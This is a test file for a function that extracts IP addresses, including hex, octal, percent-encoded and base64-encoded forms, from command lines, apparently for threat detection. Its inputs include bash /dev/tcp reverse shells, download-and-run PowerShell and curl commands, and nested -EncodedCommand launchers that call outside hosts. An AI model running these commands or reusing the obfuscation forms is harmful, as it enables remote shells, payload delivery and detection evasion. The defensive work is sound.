import { describe, expect, it } from 'vitest';
import { extractAddresses } from '../../src/detect/extractAddresses.js';

const addresses = (line: string): string[] => extractAddresses(line).map((a) => a.address);

describe('extractAddresses', () => {
  it('reports address, raw text, offset, encoding and kind for each literal, in order of offset', () => {
    expect(extractAddresses('ping 10.0.0.1 && curl http://0x2d099403/a')).toEqual([
      { address: '10.0.0.1', raw: '10.0.0.1', offset: 5, encoding: 'dotted', kind: 'private' },
      { address: '45.9.148.3', raw: '0x2d099403', offset: 29, encoding: 'hex', kind: 'external' },
    ]);
  });

  it('finds IPv6 addresses after drive letters and schemes, wherever the colon pair is in the line', () => {
    expect(addresses('copy C:\\a.txt D:\\b.txt & ping -6 2606:4700::1111')).toEqual(['2606:4700::1111']);
    expect(addresses('curl http://[2001:4860:4860::8888]:80/a')).toEqual(['2001:4860:4860::8888']);
    expect(addresses('ping ::ffff:45.9.148.3')).toEqual(['45.9.148.3']);
    expect(addresses('C:\\tools\\x.exe -a abcd:ef01 -b 12:34')).toEqual([]);
  });

  it('finds every address on a line, not only the first', () => {
    expect(addresses('copy x \\\\8.8.4.4\\s & ping 9.9.9.9 & ping 1.1.1.1')).toEqual(['8.8.4.4', '9.9.9.9', '1.1.1.1']);
  });

  it('reports a repeated address once per occurrence', () => {
    expect(addresses('ping 8.8.8.8 & ping 8.8.8.8')).toEqual(['8.8.8.8', '8.8.8.8']);
  });

  it('finds addresses in URL, UNC, host:port, user@host, key=value and quoted positions', () => {
    expect(addresses('iwr http://45.67.89.123/p.ps1')).toEqual(['45.67.89.123']);
    expect(addresses('type \\\\45.67.89.123\\c$\\x')).toEqual(['45.67.89.123']);
    expect(addresses('nc 45.67.89.123:443')).toEqual(['45.67.89.123']);
    expect(addresses('ssh root@45.67.89.123')).toEqual(['45.67.89.123']);
    expect(addresses('x connectaddress=45.67.89.123')).toEqual(['45.67.89.123']);
    expect(addresses("x '45.67.89.123'")).toEqual(['45.67.89.123']);
    expect(addresses('echo 45.67.89.123>f,45.67.89.124')).toEqual(['45.67.89.123', '45.67.89.124']);
  });

  it('keeps a trailing sentence dot out of the address', () => {
    expect(extractAddresses('ping 8.8.8.8.')[0]).toMatchObject({ address: '8.8.8.8', raw: '8.8.8.8' });
  });

  it('skips version strings, OIDs, invalid octets and version-style zero padding', () => {
    for (const line of [
      'C:\\WindowsAzure\\WindowsAzureNetAgent_1.0.0.178\\WindowsAzureNetAgent.exe',
      'update.exe 1.3.00.217',
      'choco install x --version 1.2.3.4',
      'pip install x==1.2.3.4',
      'java -jar lib-2.3.4.5.jar',
      'certutil -dump 1.3.6.1.4.1.311',
      'ping 256.1.2.3',
      '"C:\\Program Files\\App\\5.4.3.2\\app.exe"',
      'Install-Module Az -RequiredVersion 11.1.0.0',
      'ping 8.8.8.8.nip.io',
      'OneDriveSetup.exe /update 19.002.0107.0005',
      'ping 08.1.1.1',
    ]) {
      expect(addresses(line), line).toEqual([]);
    }
  });

  it('does not take a word ending in "ver" (like -server) for a version keyword', () => {
    expect(addresses('x -server 45.67.89.123')).toEqual(['45.67.89.123']);
  });

  it('reads IPv6 in compressed, full, bracketed, zone-id and IPv4-mapped forms', () => {
    expect(extractAddresses('curl http://[2606:4700:4700::1111]:8080/')[0]).toMatchObject({
      address: '2606:4700:4700::1111',
      offset: 13,
      encoding: 'ipv6',
      kind: 'external',
    });
    expect(addresses('ping 2001:4860:4860:0000:0000:0000:0000:8888')).toEqual(['2001:4860:4860::8888']);
    expect(extractAddresses('ping fe80::1%eth0')[0]).toMatchObject({ address: 'fe80::1', raw: 'fe80::1%eth0', kind: 'link-local' });
    expect(extractAddresses('curl http://[::ffff:45.9.148.3]/')).toEqual([
      { address: '45.9.148.3', raw: '::ffff:45.9.148.3', offset: 13, encoding: 'ipv6', kind: 'external' },
    ]);
  });

  it('reports NAT64 addresses as the IPv4 host the translator reaches, classified by it', () => {
    expect(extractAddresses('ping 64:ff9b::2d09:9403')).toEqual([
      { address: '45.9.148.3', raw: '64:ff9b::2d09:9403', offset: 5, encoding: 'ipv6', kind: 'external' },
    ]);
    expect(extractAddresses('curl http://[64:ff9b::10.0.0.1]/')).toMatchObject([{ address: '10.0.0.1', kind: 'private' }]);
    // The local-use prefix (RFC 8215) is a network-specific translator, not a global name for the IPv4 host.
    expect(extractAddresses('ping 64:ff9b:1::2d09:9403')).toMatchObject([{ address: '64:ff9b:1::2d09:9403', kind: 'special-purpose' }]);
  });

  it('reports 6to4 and Teredo addresses as the IPv6 host, classified by the IPv4 router or client they embed', () => {
    expect(extractAddresses('ping 2002:2d09:9403::1')).toMatchObject([{ address: '2002:2d09:9403::1', kind: 'external' }]);
    expect(extractAddresses('ping 2002:a00:1::1')).toMatchObject([{ address: '2002:a00:1::1', kind: 'private' }]);
    // Teredo client 45.9.148.3 is stored inverted in the last 32 bits.
    expect(extractAddresses('ping 2001:0:4136:e378:8000:63bf:d2f6:6bfc')).toMatchObject([
      { address: '2001:0:4136:e378:8000:63bf:d2f6:6bfc', kind: 'external' },
    ]);
  });

  it('reads Windows ipv6-literal.net UNC hosts', () => {
    expect(extractAddresses('dir \\\\fe80--1s4.ipv6-literal.net\\c$')).toEqual([
      { address: 'fe80::1', raw: 'fe80--1s4.ipv6-literal.net', offset: 6, encoding: 'ipv6', kind: 'link-local' },
    ]);
    expect(addresses('copy \\\\2606-4700-4700--1111.IPV6-LITERAL.NET\\s x')).toEqual(['2606:4700:4700::1111']);
  });

  it('does not take PowerShell static member access or times for IPv6', () => {
    expect(addresses('[Convert]::FromBase64String($x); [Collections.ArrayList]::Add; at 12:30:45')).toEqual([]);
  });

  it('decodes hex, decimal, octal and short forms only in URL and UNC host position', () => {
    expect(extractAddresses('curl http://0133.0327.0125.021/')[0]).toMatchObject({ address: '91.215.85.17', encoding: 'octal' });
    expect(extractAddresses('curl http://193.42.8455/')[0]).toMatchObject({ address: '193.42.33.7', encoding: 'decimal' });
    expect(extractAddresses('dir \\\\3240763655\\c$')[0]).toMatchObject({ address: '193.42.33.7', encoding: 'decimal', raw: '3240763655' });
    expect(addresses('echo 0x2d099403 755602435')).toEqual([]);
    expect(addresses('curl http://0xdeadbeef.example.com/')).toEqual([]);
  });

  it('finds hosts of bash /dev/tcp and /dev/udp redirections, in every numeric form', () => {
    expect(extractAddresses('bash -i >& /dev/tcp/45.9.148.3/4444 0>&1')).toEqual([
      { address: '45.9.148.3', raw: '45.9.148.3', offset: 20, encoding: 'dotted', kind: 'external' },
    ]);
    expect(addresses('sh -i >& /dev/udp/45.9.148.3/53 0>&1')).toEqual(['45.9.148.3']);
    expect(extractAddresses('bash -i >& /dev/tcp/0x2d099403/4444 0>&1')).toMatchObject([{ address: '45.9.148.3', encoding: 'hex' }]);
    expect(extractAddresses('exec 3<>/dev/tcp/755602435/80')).toMatchObject([{ address: '45.9.148.3', encoding: 'decimal' }]);
    expect(addresses('bash -i >& /dev/tcp/2a01:4f8::10/4444')).toEqual(['2a01:4f8::10']);
    // Only bash's lowercase paths are network redirections; other path components stay version folders.
    expect(addresses('cat /DEV/TCP/45.9.148.3/80 /opt/app/45.9.148.3/x')).toEqual([]);
  });

  it('finds hosts of Windows long-path UNC prefixes', () => {
    expect(extractAddresses('copy \\\\?\\UNC\\45.9.148.3\\share\\x.exe .')).toMatchObject([{ address: '45.9.148.3', offset: 13 }]);
    expect(addresses('type \\\\.\\unc\\45.9.148.3\\c$\\x.txt')).toEqual(['45.9.148.3']);
    expect(addresses('"\\??\\UNC\\45.9.148.3\\tools\\run.exe" -q')).toEqual(['45.9.148.3']);
    expect(extractAddresses('dir \\\\?\\UNC\\0x2d099403\\c$')).toMatchObject([{ address: '45.9.148.3', encoding: 'hex' }]);
    expect(addresses('dir \\\\?\\UNC\\2a01-4f8--10.ipv6-literal.net\\c$')).toEqual(['2a01:4f8::10']);
    expect(addresses('dir \\\\?\\C:\\App\\5.4.3.2\\')).toEqual([]);
  });

  it('finds an address glued to a one-letter switch that starts its own word', () => {
    expect(extractAddresses('mysql -h45.9.148.3 -uroot')).toMatchObject([{ address: '45.9.148.3', offset: 8 }]);
    expect(addresses('ping -n 1 /S45.9.148.3')).toEqual(['45.9.148.3']);
    expect(addresses('x /s:45.9.148.3')).toEqual(['45.9.148.3']);
    // Not a switch: glued to a longer word or inside one; `-v` glued to a quad is a version.
    expect(addresses('x --h45.9.148.3 a-h45.9.148.3 setup.exe -v1.2.3.4')).toEqual([]);
  });

  it('reads percent-encoded URL hosts and never reports an address assembled from the digits of an escape', () => {
    // `%34%35` is `45`: the address is 45.9.148.3, and the digits 35 of the second escape are not the first octet.
    expect(extractAddresses('curl http://%34%35.9.148.3/a')).toEqual([
      { address: '45.9.148.3', raw: '%34%35.9.148.3', offset: 12, encoding: 'dotted', kind: 'external' },
    ]);
    expect(addresses('curl http://1%30.20.30.40/')).toEqual(['10.20.30.40']);
    expect(addresses('curl http://%31%30.20.30.40/')).toEqual(['10.20.30.40']);
    expect(addresses('curl http://%34%35%2e%39%2E%31%34%38%2e%33/a')).toEqual(['45.9.148.3']);
    expect(extractAddresses('curl http://%30x2d099403/')).toMatchObject([{ address: '45.9.148.3', encoding: 'hex' }]);
    // An escape after the quad continues the host: `45.9.148.3%31` is 45.9.148.31.
    expect(addresses('curl http://45.9.148.3%31/')).toEqual(['45.9.148.31']);
    // Escapes that encode separators are read as separators, outside URL hosts too.
    expect(addresses('curl "https://x.example/r?u=http%3A%2F%2F45.9.148.3%2Fa&q=ping%2045.9.148.4%20"')).toEqual(['45.9.148.3', '45.9.148.4']);
    expect(addresses('echo 100%2545.9.148.3')).toEqual(['45.9.148.3']);
    // An invalid escape makes the host invalid, and an IPv6 run that starts inside an escape is not an address.
    expect(addresses('curl http://%zz45.9.148.3/ http://x/%2a01:4f8::1')).toEqual([]);
  });

  it('reads zero-padded quads as the resolver does (octal), and URL hosts with any number of leading zeros', () => {
    expect(extractAddresses('ping 010.1.1.1')).toEqual([
      { address: '8.1.1.1', raw: '010.1.1.1', offset: 5, encoding: 'octal', kind: 'external' },
    ]);
    expect(extractAddresses('ping 192.168.001.010')).toMatchObject([{ address: '192.168.1.8', kind: 'private' }]);
    expect(extractAddresses('ping 0300.0250.0.01')).toMatchObject([{ address: '192.168.0.1', kind: 'private' }]);
    expect(extractAddresses('curl http://010.010.010.010/')).toEqual([
      { address: '8.8.8.8', raw: '010.010.010.010', offset: 12, encoding: 'octal', kind: 'external' },
    ]);
    expect(addresses(`curl http://${'0'.repeat(30)}55.9.148.3/`)).toEqual(['45.9.148.3']);
    expect(addresses(`curl http://0x${'0'.repeat(30)}2d099403/`)).toEqual(['45.9.148.3']);
    expect(addresses(`curl http://1.3.00.217/ http://${'0'.repeat(30000)}177.1/`)).toEqual(['1.3.0.217', '127.0.0.1']);
    expect(addresses('curl http://0400.1.1.1/ http://0x100000000/')).toEqual([]);
  });

  it('skips quads in PowerShell and Python version code', () => {
    for (const line of [
      "if ($PSVersionTable.PSVersion -ge [version]'5.1.0.0') {}",
      '[System.Version]::Parse("2.8.5.201")',
      "[version]('1.2.3.4')",
      'if ($m.Version -lt [Version]\\"2.2.5.1\\") {}',
      "if ($v -ge '8.0.50.0') {}",
      "Version('1.2.3.4') > LooseVersion('1.2.3.3')",
      "pip install 'urllib3<2.0.0.0'",
    ]) {
      expect(addresses(line), line).toEqual([]);
    }
    expect(addresses("$c=New-Object Net.Sockets.TcpClient('45.9.148.3',443); [version]'5.1.0.0'")).toEqual(['45.9.148.3']);
  });

  it('decodes PowerShell -EncodedCommand payloads and reports the payload offset', () => {
    const payload = Buffer.from("iwr http://45.9.148.3/a; ping 10.1.1.1", 'utf16le').toString('base64');
    const line = `powershell -nop -enc ${payload}`;
    expect(extractAddresses(line)).toEqual([
      { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external', encodedText: expect.any(String) },
      { address: '10.1.1.1', raw: '10.1.1.1', offset: 21, encoding: 'encoded-command', kind: 'private', encodedText: expect.any(String) },
    ]);
    expect(extractAddresses(line, { decodeEncodedCommands: false })).toEqual([]);
  });

  it('decodes FromBase64String literals inside encoded commands (Empire launchers) with the outer payload offset', () => {
    const server = Buffer.from('http://45.9.148.3:8080', 'utf16le').toString('base64');
    const script = `$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${server}')));$wc.DownloadData($ser)`;
    const line = `powershell -w 1 -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
    expect(extractAddresses(line)).toEqual([
      { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external', encodedText: expect.any(String) },
    ]);
  });

  it('names the base64 that encodes an address in an encoded command: the same at the same byte alignment, whatever surrounds it', () => {
    const encode = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
    // Scripts whose address starts at the same UTF-16 offset modulo 3 (5 and 8 characters in): their base64 shares it.
    const a = extractAddresses(`powershell -enc ${encode('ping 45.9.148.3')}`)[0]!;
    const b = extractAddresses(`powershell -enc ${encode('curl -L 45.9.148.3/a')}`)[0]!;
    const c = extractAddresses(`powershell -enc ${encode('ping  45.9.148.3')}`)[0]!;
    expect(a.encodedText).toMatch(/^[A-Za-z0-9+/]{20,}$/);
    expect(b.encodedText).toBe(a.encodedText);
    expect(c.encodedText).not.toBe(a.encodedText);
    expect(c.encodedText).toMatch(/^[A-Za-z0-9+/]{20,}$/);
  });

  it('decodes encoded commands nested at any depth, with the outermost payload offset', () => {
    let line = 'iwr http://45.9.148.3/a';
    for (let depth = 1; depth <= 8; depth++) {
      line = `powershell -nop -enc ${Buffer.from(line, 'utf16le').toString('base64')}`;
      const found = extractAddresses(line);
      expect(found, `depth ${depth}`).toEqual([
        { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external', encodedText: expect.any(String) },
      ]);
      // A substring of the command line itself, longer at each level (8/3 per UTF-16LE level).
      expect(line).toContain(found[0]!.encodedText);
      expect(found[0]!.encodedText!.length).toBeGreaterThan(20 * (8 / 3) ** (depth - 1));
    }
  });

  it('ignores -e arguments that are not UTF-16LE base64', () => {
    expect(addresses('curl -e aHR0cDovLzQ1LjkuMTQ4LjMv https://example.com')).toEqual([]);
  });

  it('returns an empty list for empty and non-string input', () => {
    expect(extractAddresses('')).toEqual([]);
    expect(extractAddresses(undefined as unknown as string)).toEqual([]);
  });

  describe('hosts written as one number (inet_aton forms) for network tools', () => {
    it('reads hex, decimal and short forms as the host argument of a network tool, alone or after user@', () => {
      expect(extractAddresses('cmd /c ping -n 1 0x2d099403')).toMatchObject([{ address: '45.9.148.3', raw: '0x2d099403', encoding: 'hex', kind: 'external' }]);
      expect(addresses('ping 755602435')).toEqual(['45.9.148.3']);
      expect(addresses('ssh -p 2222 root@3118228740 id')).toEqual(['185.220.101.4']);
      expect(addresses('"C:\\Windows\\System32\\PING.EXE" 45.9.37891')).toEqual(['45.9.148.3']);
      expect(addresses('nc 0xC1.0x2A.0x21.0x7 4444')).toEqual(['193.42.33.7']);
      expect(addresses('curl -s 0x5bd75511/x.sh')).toEqual(['91.215.85.17']);
    });

    it('leaves numbers that are option values, outside a network tool, short decimals and IPv6 groups alone', () => {
      for (const line of [
        'curl --max-filesize 104857600 https://example.com/f',
        'ping -w 16777217 fileserver',
        'echo 0x2d099403 755602435',
        'ping -c 1 db01 && sleep 755602435',
        "ssh deploy@build01 'sleep 3.5'",
      ]) {
        expect(addresses(line), line).toEqual([]);
      }
      expect(addresses('ping 2001:4860:4860::8888')).toEqual(['2001:4860:4860::8888']);
    });
  });

  it('reads fullwidth digits and full stops in URL hosts as the WHATWG URL parser does (Node URL agrees)', () => {
    for (const url of ['http://４５．９．１４８．３/a', 'http://45。9。148。3/a', 'http://45｡9｡148｡3/a', 'http://%EF%BC%94%EF%BC%95.9.148.3/a']) {
      expect(new URL(url).hostname, url).toBe('45.9.148.3');
      expect(extractAddresses(`curl ${url}`), url).toMatchObject([{ address: '45.9.148.3', raw: url.slice(7, -2), kind: 'external' }]);
    }
  });

  it('does not report defanged addresses and URLs, which nothing connects to', () => {
    for (const line of ['echo 203.0.113[.]5', 'x hxxp://45.9.148.3/a', 'x HXXPS://45.9.148.3/a', 'x hxxp[:]//45.9.148.3/a', 'x hxxp://0x2d099403/']) {
      expect(addresses(line), line).toEqual([]);
    }
    expect(addresses('x http://45.9.148.3/a')).toEqual(['45.9.148.3']);
  });

  it('does not report percent-encoded IPv6 hosts, which the WHATWG URL parser rejects', () => {
    for (const url of ['http://[2a05%3Ad014%3A%3A1]/x', 'http://2a05%3Ad014%3A%3A1/']) {
      expect(() => new URL(url), url).toThrow();
      expect(addresses(`curl ${url}`), url).toEqual([]);
    }
  });
});

